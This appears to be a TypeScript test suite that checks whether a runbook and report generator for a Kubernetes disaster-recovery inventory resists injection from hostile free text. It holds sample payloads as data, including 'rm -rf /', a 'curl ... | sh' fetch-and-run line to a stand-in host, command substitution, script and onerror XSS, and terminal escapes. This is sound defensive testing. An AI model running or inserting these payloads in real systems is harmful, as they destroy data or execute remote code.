// Hostile inventory text never leaves its place in a runbook. Every free-text field the schema allows holds shell
// metacharacters, Markdown and HTML, newlines and terminal escapes; the identifiers that reach commands keep their
// grammar. Every `sh` block must parse (shell-quote) to the same operators and command words as the runbook of the
// clean inventory, and the Markdown must carry no raw HTML, comment opener or extra table cell from the inventory.
// Nothing here ever runs a generated command.
import { cp, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseShell, type ParseEntry } from 'shell-quote';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { parse as parseYaml, parseAllDocuments, stringify } from 'yaml';
import type { Evaluation } from '../../modules/evaluation/index.js';
import type { Lang, Model } from '../../modules/model/index.js';
import { renderComplianceReport, renderDossier } from '../../modules/report/index.js';
import { generateRunbooks } from '../../modules/runbook/index.js';
import { evaluateDir, runCli } from '../helpers.js';

/** One string with every class of payload: command substitution, operators, Markdown, HTML, newlines, escapes. */
const PAYLOADS = [
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  '; rm -rf / #',
  '| tee /tmp/x && curl -s http://x/y|sh > /tmp/o 2>&1 &',
  `' " \\ \\| &`,
  '\nrm -rf / #\n```\n## injected heading\n',
  '<!-- the rest is hidden',
  '<script>alert(1)</script> <img src=x onerror=alert(1)>',
  '[link](javascript:alert(1)) ![pixel](http://x/t.png)',
  '\u001b[31mred\u001b[0m \u001b]8;;http://x\u0007osc\u001b]8;;\u0007 \u009b2J bell\u0007 nul\u0000 del\u007f',
  '&amp; &lt;',
  '\r\n> quoted\r\n| a | b |',
];
const HOSTILE = `Tên ${PAYLOADS.join(' ')} -->`;
/** For fields limited to 200 characters (label values). */
const HOSTILE_SHORT = '$(touch /tmp/pwned) `id`; rm -rf / # | <!-- <script>x</script> \u001b[2J\n```\nrm -rf / #';

type Schema = { [key: string]: unknown };
const schema = JSON.parse(await readFile('inventory/schema/inventory.schema.json', 'utf8')) as Schema;
const defs = schema.$defs as Record<string, Schema>;
const resolveRef = (s: Schema): Schema => (typeof s.$ref === 'string' ? resolveRef(defs[s.$ref.replace('#/$defs/', '')]!) : s);
/** A string the schema does not constrain beyond its length: free text. */
const isText = (s: Schema): boolean => s.type === 'string' && !s.pattern && !s.format && !s.enum && s.const === undefined;

/**
 * Puts a hostile value in every free-text field of `data` (per `s`), and adds the optional free-text fields that an
 * object lacks, so that every place a template prints one is reached. Returns the JSON pointers it set.
 */
function poison(data: unknown, node: Schema, pointer: string): string[] {
  const s = resolveRef(node);
  if (s.if !== undefined) return []; // an address: a prefix or a request, never text
  if (Array.isArray(data) && s.items) return data.flatMap((item, i) => poison(item, s.items as Schema, `${pointer}/${i}`));
  if (data === null || typeof data !== 'object' || Array.isArray(data)) return [];
  const obj = data as Record<string, unknown>;
  const set: string[] = [];
  const props = (s.properties ?? {}) as Record<string, Schema>;
  for (const [key, sub] of Object.entries(props)) {
    const resolved = resolveRef(sub);
    if (isText(resolved)) {
      obj[key] = (resolved.maxLength as number) <= 200 ? HOSTILE_SHORT : HOSTILE;
      set.push(`${pointer}/${key}`);
    } else if (key in obj) set.push(...poison(obj[key], sub, `${pointer}/${key}`));
  }
  const extra = s.additionalProperties;
  if (extra && typeof extra === 'object' && isText(resolveRef(extra as Schema))) {
    for (const key of Object.keys(obj).filter((k) => !(k in props))) {
      obj[key] = HOSTILE_SHORT;
      set.push(`${pointer}/${key}`);
    }
  }
  return set;
}

/** Rewrites every YAML document of `dir` (the lock file aside) with hostile free text; returns what it set. */
async function poisonFolder(dir: string): Promise<string[]> {
  const set: string[] = [];
  for (const file of (await readdir(dir)).filter((f) => f.endsWith('.yaml') && f !== 'addressing.lock.yaml').sort()) {
    const docs = parseAllDocuments(await readFile(join(dir, file), 'utf8')).map((d) => d.toJS() as Record<string, unknown>);
    for (const [i, doc] of docs.entries()) {
      const kind = doc.kind as string;
      const meta = doc.metadata as Record<string, unknown>;
      meta.labels = { ...((meta.labels as object) ?? {}), note: HOSTILE_SHORT };
      set.push(...poison(doc, defs[kind]!, `${file}#${i}:${kind}`));
    }
    await writeFile(join(dir, file), docs.map((d) => stringify(d)).join('---\n'));
  }
  return set;
}

const temps: string[] = [];
afterAll(async () => {
  for (const d of temps) await rm(d, { recursive: true, force: true });
});
/** A copy of the bundled Quảng Ngãi inventory in a folder of the same name (runbooks print the folder name). */
async function copyOf(): Promise<string> {
  const root = await mkdtemp(join(tmpdir(), 'hatang-hostile-runbook-'));
  temps.push(root);
  const dir = join(root, 'quang-ngai');
  await cp('inventory/quang-ngai', dir, { recursive: true });
  return dir;
}

const render = (e: Evaluation, lang: Lang, model: Model = e.model): Map<string, string> =>
  new Map(
    generateRunbooks(model, { lang, ruleset: e.selection.ruleset.id, findings: e.findings, plan: e.plan })
      // The Markdown runbooks; the cold-DR manifests beside them are YAML written by the Kubernetes plan's renderer.
      .filter((f) => f.path.endsWith('.md'))
      .map((f) => [f.path, f.content] as const),
  );

/** The ```sh blocks of a Markdown file (indented ones in list items too), each as its lines. */
function shellBlocks(markdown: string): string[][] {
  return [...markdown.matchAll(/^( *)```sh\n([\s\S]*?)^\1```$/gm)].map((m) =>
    m[2]!
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => l.slice(m[1]!.length)),
  );
}

/** Shell metacharacters outside quotes, in order: what the shell would act on rather than pass as an argument. */
function unquotedMeta(line: string): string {
  let out = '';
  let quote: "'" | '"' | undefined;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quote === "'") {
      if (ch === "'") quote = undefined;
    } else if (ch === '\\') i++;
    else if (quote === '"') {
      if (ch === '"') quote = undefined;
      else if (ch === '`' || ch === '$') out += ch;
    } else if (ch === "'" || ch === '"') quote = ch;
    else if (';&|<>()`$\n'.includes(ch) || (ch === '#' && (i === 0 || line[i - 1] === ' '))) out += ch;
  }
  return out;
}

/** What must not change when only argument values change: operators, comments, globs and the command word. */
function shape(line: string): { meta: string; command: ParseEntry | undefined; ops: string[]; words: number } {
  const tokens = parseShell(line, (key) => ({ op: `$${key}` }) as unknown as string);
  return {
    meta: unquotedMeta(line),
    command: tokens[0],
    ops: tokens.filter((t) => typeof t !== 'string').map((t) => JSON.stringify(t)),
    words: tokens.length,
  };
}

/**
 * Checks Markdown made from the hostile inventory against the same document made from the clean one: no raw HTML,
 * comment opener or control character anywhere (front matter included); outside it, the same lines, the same
 * headings and fences, the same table cells, the same links and the same `<` (the templates' own).
 */
function expectSafeMarkdown(content: string, clean: string, path: string): void {
  expect(content, path).not.toMatch(/<script|<img|<!--/i);
  expect(content, path).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  const md = body(content);
  const ref = body(clean);
  expect(md.split('<').length, `${path}: every < is the template's own`).toBe(ref.split('<').length);
  const links = (text: string) => text.replace(/^```[a-z]*\n[\s\S]*?^```$/gm, '').match(/(?<!\\)\]\(/g)?.length ?? 0;
  expect(links(md), `${path}: links outside code blocks`).toBe(links(ref));
  const mine = md.split('\n');
  const theirs = ref.split('\n');
  expect(mine.length, `${path}: no line from the inventory`).toBe(theirs.length);
  const lead = (line: string) => line.match(/^\s*(```\S*|#{1,6} |)/)![0];
  mine.forEach((line, i) => {
    expect(lead(line), `${path}:${i + 1}`).toBe(lead(theirs[i]!));
    if (theirs[i]!.startsWith('|')) expect(cellBars(line), `${path}:${i + 1} ${line}`).toBe(cellBars(theirs[i]!));
  });
}

/** The Markdown outside the front matter (all of it when there is none). */
const body = (content: string): string => (content.startsWith('---\n') ? content.slice(content.indexOf('\n---\n', 4) + 5) : content);
/** Pipes that split a table row: not escaped by a backslash. */
const cellBars = (line: string): number => line.match(/(?<!\\)(?:\\\\)*\|/g)?.length ?? 0;

describe('a Quảng Ngãi inventory with hostile text in every free-text field', () => {
  let cleanEval: Evaluation;
  let hostileEval: Evaluation;
  let poisoned: string[];

  beforeAll(async () => {
    const clean = await copyOf();
    const hostile = await copyOf();
    poisoned = await poisonFolder(hostile);
    cleanEval = await evaluateDir(clean);
    hostileEval = await evaluateDir(hostile);
  });

  test('is a valid inventory: the schema lets free text be anything, identifiers keep their grammar', () => {
    expect(hostileEval.model.systems.every((s) => s.title.startsWith('Tên $(touch'))).toBe(true);
    expect(poisoned.length).toBeGreaterThan(150);
    for (const field of ['/spec/name', '/spec/operator', '/spec/reason', '/spec/approver', '/by', '/reference', '/spec/purpose', '/circuit']) {
      expect(
        poisoned.some((p) => p.endsWith(field)),
        field,
      ).toBe(true);
    }
    // What reaches a command is an identifier, not free text.
    expect(poisoned.filter((p) => /\/(context|namespace|records|apiEndpoint)(\/|$)/.test(p))).toEqual([]);
  });

  describe.each(['vi', 'en'] as const)('runbooks (%s)', (lang) => {
    let clean: Map<string, string>;
    let hostile: Map<string, string>;
    beforeAll(() => {
      clean = render(cleanEval, lang);
      hostile = render(hostileEval, lang);
    });

    test('the same files, each with the same shell blocks, operators and command words as the clean runbook', () => {
      expect([...hostile.keys()]).toEqual([...clean.keys()]);
      let lines = 0;
      for (const [path, content] of hostile) {
        const mine = shellBlocks(content);
        const theirs = shellBlocks(clean.get(path)!);
        expect(
          mine.map((b) => b.length),
          path,
        ).toEqual(theirs.map((b) => b.length));
        mine.forEach((block, b) =>
          block.forEach((line, l) => {
            expect(shape(line), `${path}: ${line}`).toEqual(shape(theirs[b]![l]!));
            lines++;
          }),
        );
        // No free text reaches a command at all: the blocks are the clean ones, byte for byte.
        expect(mine, path).toEqual(theirs);
      }
      expect(lines).toBeGreaterThan(100);
    });

    test('no raw HTML, comment opener, link, control character or extra table cell from the inventory', () => {
      for (const [path, content] of hostile) expectSafeMarkdown(content, clean.get(path)!, path);
    });

    test('the evidence snippets (YAML) and the front matter give back the text as it is in the inventory', () => {
      let snippets = 0;
      for (const [path, content] of hostile) {
        const front = parseYaml(content.slice(4, content.indexOf('\n---\n', 4))) as Record<string, unknown>;
        expect(Object.keys(front), path).toEqual(Object.keys(parseYaml(clean.get(path)!.slice(4, clean.get(path)!.indexOf('\n---\n', 4))) as object));
        if (path.startsWith('systems/')) expect(front.name, path).toBe(hostileEval.model.systems.find((s) => s.name === front.system)!.title);
        for (const m of content.matchAll(/^```yaml\n([\s\S]*?)^```$/gm)) {
          const doc = parseYaml(m[1]!) as { spec: { evidence: Record<string, { by: string }> } };
          const item = Object.values(doc.spec.evidence)[0]!;
          expect(item.by, path).toMatch(/^Tên \$\(touch/);
          expect(item.by, path).toBe(HOSTILE);
          snippets++;
        }
      }
      expect(snippets).toBeGreaterThan(5);
    });
  });

  test.each(['vi', 'en'] as const)('report.md and every dossier annex (%s): the same checks as the runbooks', async (lang) => {
    const options = (e: Evaluation) => ({ asOf: '2026-11-29', version: '9.9.9', lang, plan: e.plan });
    // The official-name checks (AU-01, AU-02) and the checks that read free text as data (DC-03: the edition of a
    // facility standard; DC-04: the same hazard zone or power feed at both sites) rightly find the hostile values
    // wrong: they add findings, not structure.
    // Their results are taken from the clean inventory, so that both reports hold the same findings.
    const readsText = ['AU-01', 'AU-02', 'DC-03', 'DC-04'];
    const findings = [...hostileEval.findings.filter((f) => !readsText.includes(f.rule)), ...cleanEval.findings.filter((f) => readsText.includes(f.rule))];
    const mine = await renderComplianceReport(hostileEval.model, findings, options(hostileEval));
    const theirs = await renderComplianceReport(cleanEval.model, cleanEval.findings, options(cleanEval));
    expect(mine.markdown.split('\n')[0]).toMatch(/^# .*Tên \$\(touch \/tmp\/pwned\) \\`touch \/tmp\/pwned\\` ; rm -rf \/ # \\\| tee/);
    expectSafeMarkdown(mine.markdown, theirs.markdown, 'report.md');
    for (const system of cleanEval.model.systems.slice(0, 4).map((s) => s.name)) {
      const dossier = await renderDossier(hostileEval.model, hostileEval.findings, system, options(hostileEval));
      const ref = await renderDossier(cleanEval.model, cleanEval.findings, system, options(cleanEval));
      expectSafeMarkdown(dossier.markdown, ref.markdown, `dossier-${system}.md`);
    }
  });

  test('defence in depth: with the schema bypassed, a hostile context or DNS name stays one quoted argument', () => {
    const distinct = (e: Evaluation, context: (name: string) => string, record: (r: string) => string): Model => ({
      ...e.model,
      clusters: e.model.clusters.map((c) => ({ ...c, context: context(c.name) })),
      systems: e.model.systems.map((s) => (s.dr?.records ? { ...s, dr: { ...s.dr, records: s.dr.records.map(record) } } : s)),
    });
    const evil = ' $(touch /tmp/pwned) `id`; rm -rf / # | x && y > /tmp/o \'q\' "d" \\\n```\n<!--';
    const typed = evil.replace(/[\u0000-\u001f\u007f-\u009f]/g, '?');
    const cleanModel = distinct(
      cleanEval,
      (n) => `ctx-${n}`,
      (r) => r,
    );
    const hostileModel = distinct(
      cleanEval,
      (n) => `ctx-${n}${evil}`,
      (r) => `${r}${evil}`,
    );
    const records = [...new Set(cleanEval.model.systems.flatMap((s) => s.dr?.records ?? []))].sort((a, b) => b.length - a.length);
    const anyRecord = new RegExp(records.map((r) => r.replace(/\./g, '\\.')).join('|'), 'g');
    const expected = (token: ParseEntry): ParseEntry => {
      if (typeof token !== 'string') return token;
      if (/^ctx-[a-z0-9-]+$/.test(token)) return `${token}${typed}`;
      return token.replace(anyRecord, (r) => `${r}${typed}`);
    };
    const env = (key: string) => ({ op: `$${key}` }) as unknown as string;
    let checked = 0;
    for (const lang of ['vi', 'en'] as const) {
      const clean = render(cleanEval, lang, cleanModel);
      const hostile = render(cleanEval, lang, hostileModel);
      for (const [path, content] of hostile) {
        const mine = shellBlocks(content);
        const theirs = shellBlocks(clean.get(path)!);
        expect(
          mine.map((b) => b.length),
          path,
        ).toEqual(theirs.map((b) => b.length));
        mine.forEach((block, b) =>
          block.forEach((line, l) => {
            const ref = theirs[b]![l]!;
            expect(unquotedMeta(line), `${path}: ${line}`).toBe(unquotedMeta(ref));
            expect(parseShell(line, env), `${path}: ${line}`).toEqual(parseShell(ref, env).map(expected));
            checked++;
          }),
        );
        // The rollback commands written inline in a failover runbook.
        const inline = (md: string) => [...md.matchAll(/(`+) ?(kubectl .*?) ?\1(?!`)/g)].map((m) => m[2]!.replace(/\\\|/g, '|'));
        const spans = inline(content);
        expect(spans.length, path).toBe(inline(clean.get(path)!).length);
        spans.forEach((span, i) => expect(parseShell(span, env), span).toEqual(parseShell(inline(clean.get(path)!)[i]!, env).map(expected)));
        checked += spans.length;
        expect(body(content).split('\n').length, `${path}: no line from a value`).toBe(body(clean.get(path)!).split('\n').length);
      }
    }
    expect(checked).toBeGreaterThan(200);
  });
});

describe('the schema keeps identifiers that reach commands to their grammar', () => {
  const withContext = async (context: string) => {
    const dir = await copyOf();
    const file = join(dir, 'clusters.yaml');
    const text = await readFile(file, 'utf8');
    await writeFile(file, text.replace('context: kt-k8s-dr', `context: ${JSON.stringify(context)}`));
    const line = text.split('\n').findIndex((l) => l.includes('context: kt-k8s-dr')) + 1;
    return { dir, line };
  };

  test.each([
    ['command substitution', 'kt-k8s-dr $(curl -s http://x/y|sh)'],
    ['a newline', 'a\nrm -rf / #'],
    ['a backtick', 'kt`id`'],
    ['a leading dash (an option)', '-kt-k8s-dr'],
  ])('a context with %s is a located schema error (exit 2)', async (_, context) => {
    const { dir, line } = await withContext(context);
    const { code, stdout, stderr } = await runCli('validate', dir, '--lang', 'en');
    expect(code).toBe(2);
    expect(stdout + stderr).toMatch(new RegExp(`clusters\\.yaml:${line}:\\d+: error \\[invalid-value\\] /spec/context: `));
  });

  test('kubeconfig context names of other tools are accepted and printed as they are', async () => {
    const { dir } = await withContext('arn:aws:eks:ap-southeast-1:123456789012:cluster/kt-k8s-dr');
    const e = await evaluateDir(dir);
    const fo = render(e, 'en').get('systems/he-thong-tthc/failover.md')!;
    expect(fo).toContain('kubectl --context arn:aws:eks:ap-southeast-1:123456789012:cluster/kt-k8s-dr -n he-thong-tthc scale deployment/one-stop-app');
  });

  test('a DNS name with a label over 63 characters, or a namespace that is no DNS label, is a schema error', async () => {
    const dir = await copyOf();
    const systems = join(dir, 'systems.yaml');
    const text = await readFile(systems, 'utf8');
    await writeFile(
      systems,
      text.replace('dichvucong.quangngai.gov.vn', `${'a'.repeat(64)}.quangngai.gov.vn`).replace(/namespace: ([a-z-]+)/, 'namespace: "$1;id"'),
    );
    const { code, stdout, stderr } = await runCli('validate', dir, '--lang', 'en');
    expect(code).toBe(2);
    expect(stdout + stderr).toMatch(/systems\.yaml:\d+:\d+: error \[invalid-value\] \/spec\/dr\/records\/0/);
    expect(stdout + stderr).toMatch(/systems\.yaml:\d+:\d+: error \[invalid-value\] \/spec\/cluster\/namespace/);
  });
});
